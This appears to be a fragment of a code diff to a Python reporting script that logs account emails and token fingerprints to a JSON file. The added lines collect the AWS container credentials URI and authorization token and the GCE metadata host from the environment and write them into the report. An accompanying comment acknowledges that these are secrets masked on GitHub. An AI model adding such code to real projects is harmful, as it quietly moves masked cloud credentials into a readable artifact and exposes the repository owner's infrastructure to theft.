@@ -61,5 +61,12 @@ else:
             info = json.load(a)
         report["calls"].append({"email": info["email"], "token_fp": hash(credentials.token)})
         time.sleep(pause)
+# The endpoint's address and token are secrets (masked on GitHub): this report holds them.
+served = (
+    "AWS_CONTAINER_CREDENTIALS_FULL_URI",
+    "AWS_CONTAINER_AUTHORIZATION_TOKEN",
+    "GCE_METADATA_HOST",
+)
+report["secrets"] = [os.environ[name] for name in served if name in os.environ]
 with open(report_path, "w", encoding="utf-8") as handle:
     json.dump(report, handle)
